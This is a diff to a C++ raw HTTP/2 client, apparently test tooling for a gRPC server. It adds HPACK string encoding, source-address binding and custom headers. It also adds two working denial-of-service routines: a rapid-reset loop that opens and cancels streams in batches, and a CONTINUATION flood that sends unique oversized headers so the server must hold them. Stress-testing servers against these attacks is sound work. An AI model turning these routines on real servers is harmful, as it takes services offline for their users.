@@ -20,6 +20,7 @@ enum FrameType : uint8_t {
   kData = 0,
   kHeaders = 1,
   kRstStream = 3,
+  kContinuation = 9,
   kSettings = 4,
   kPing = 6,
   kGoaway = 7,
@@ -40,20 +41,45 @@ std::string U32(uint32_t v) {
           static_cast<char>(v >> 8), static_cast<char>(v)};
 }
 
-// HPACK: a literal header field without indexing, new name, no Huffman.
+// HPACK: a string's length as a 7-bit prefix integer (RFC 7541, 5.1), no
+// Huffman, then the string.
+std::string HpackString(const std::string& s) {
+  std::string out;
+  size_t n = s.size();
+  if (n < 127) {
+    out.push_back(static_cast<char>(n));
+  } else {
+    out.push_back(static_cast<char>(127));
+    for (n -= 127; n >= 128; n >>= 7) {
+      out.push_back(static_cast<char>((n & 0x7f) | 0x80));
+    }
+    out.push_back(static_cast<char>(n));
+  }
+  return out + s;
+}
+
+// HPACK: a literal header field without indexing, new name.
 std::string Literal(const std::string& name, const std::string& value) {
-  return absl::StrCat(std::string(1, '\0'),
-                      std::string(1, static_cast<char>(name.size())), name,
-                      std::string(1, static_cast<char>(value.size())), value);
+  return absl::StrCat(std::string(1, '\0'), HpackString(name),
+                      HpackString(value));
 }
 
 }  // namespace
 
 absl::StatusOr<std::unique_ptr<RawHttp2Connection>> RawHttp2Connection::Connect(
-    int port) {
+    int port, const std::string& source) {
   const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
   if (fd < 0) return absl::InternalError(std::strerror(errno));
   std::unique_ptr<RawHttp2Connection> connection(new RawHttp2Connection(fd));
+  if (!source.empty()) {
+    sockaddr_in from{};
+    from.sin_family = AF_INET;
+    if (inet_pton(AF_INET, source.c_str(), &from.sin_addr) != 1 ||
+        bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof(from)) != 0) {
+      return absl::InvalidArgumentError(
+          absl::StrCat("source ", source, ": ", std::strerror(errno)));
+    }
+  }
   sockaddr_in address{};
   address.sin_family = AF_INET;
   address.sin_port = htons(port);
@@ -83,15 +109,21 @@ std::string RawHttp2Connection::Frame(uint8_t type, uint8_t flags,
       U32(stream & 0x7fffffff), payload);
 }
 
-void RawHttp2Connection::OpenCall(const std::string& path,
-                                  uint32_t message_bytes, int64_t send_bytes) {
-  const uint32_t stream = next_stream_;
-  next_stream_ += 2;
-  const std::string headers = absl::StrCat(
+std::string RawHttp2Connection::CallHeaders(const std::string& path) {
+  return absl::StrCat(
       Literal(":method", "POST"), Literal(":scheme", "http"),
       Literal(":path", path), Literal(":authority", "localhost"),
       Literal("content-type", "application/grpc"), Literal("te", "trailers"));
-  out_ += Frame(kHeaders, kEndHeaders, stream, headers);
+}
+
+void RawHttp2Connection::OpenCall(
+    const std::string& path, uint32_t message_bytes, int64_t send_bytes,
+    const std::vector<std::pair<std::string, std::string>>& headers) {
+  const uint32_t stream = next_stream_;
+  next_stream_ += 2;
+  std::string block = CallHeaders(path);
+  for (const auto& [name, value] : headers) block += Literal(name, value);
+  out_ += Frame(kHeaders, kEndHeaders, stream, block);
   Call& call = calls_[stream];
   call.prefix = std::string(1, '\0') + U32(message_bytes);
   call.left = send_bytes;
@@ -110,6 +142,68 @@ void RawHttp2Connection::Pump(std::chrono::milliseconds timeout) {
     if (p.revents & POLLOUT) Flush();
   }
   Flush();
+}
+
+void RawHttp2Connection::Exchange(std::chrono::milliseconds wait) {
+  pollfd p{fd_, static_cast<short>(POLLIN | (out_.empty() ? 0 : POLLOUT)), 0};
+  if (poll(&p, 1, static_cast<int>(wait.count())) < 0) return;
+  if (p.revents & (POLLIN | POLLHUP | POLLERR)) Receive();
+  if (p.revents & POLLOUT) Flush();
+}
+
+int64_t RawHttp2Connection::RapidReset(const std::string& path,
+                                       std::chrono::milliseconds period) {
+  const auto end = std::chrono::steady_clock::now() + period;
+  const std::string block = CallHeaders(path);
+  const std::string cancel = U32(8);  // RST_STREAM's CANCEL
+  int64_t opened = 0;
+  while (!closed_ && std::chrono::steady_clock::now() < end &&
+         next_stream_ < (1u << 31) - 256) {
+    // Batches of 64, queued only when the last has mostly left.
+    while (out_.size() < (64 << 10)) {
+      for (int i = 0; i < 64; ++i) {
+        out_ += Frame(kHeaders, kEndHeaders, next_stream_, block);
+        out_ += Frame(kRstStream, 0, next_stream_, cancel);
+        next_stream_ += 2;
+        ++opened;
+      }
+    }
+    Exchange(std::chrono::milliseconds(10));
+  }
+  // Calls still queued here never left.
+  const size_t per_call = 2 * 9 + block.size() + cancel.size();
+  return opened - static_cast<int64_t>((out_.size() + per_call - 1) / per_call);
+}
+
+int64_t RawHttp2Connection::ContinuationFlood(const std::string& path,
+                                              int64_t bytes,
+                                              std::chrono::milliseconds stall) {
+  const uint32_t stream = next_stream_;
+  next_stream_ += 2;
+  const std::string first = CallHeaders(path);
+  out_ += Frame(kHeaders, 0, stream, first);
+  int64_t sent = 0;
+  int64_t queued = first.size();
+  int64_t header = 0;
+  auto progressed = std::chrono::steady_clock::now();
+  while (!closed_ && sent < bytes &&
+         std::chrono::steady_clock::now() < progressed + stall) {
+    while (queued < bytes && out_.size() < (256 << 10)) {
+      // A new name each time, so that no HPACK table or merge can fold
+      // them: every byte is one the server has to keep.
+      const std::string payload =
+          Literal(absl::StrCat("x-flood-", header++), std::string(16000, 'f'));
+      out_ += Frame(kContinuation, 0, stream, payload);
+      queued += payload.size();
+    }
+    const size_t before = out_.size();
+    Exchange(std::chrono::milliseconds(20));
+    if (out_.size() < before) {
+      sent += before - out_.size();
+      progressed = std::chrono::steady_clock::now();
+    }
+  }
+  return sent;
 }
 
 bool RawHttp2Connection::Done() const {
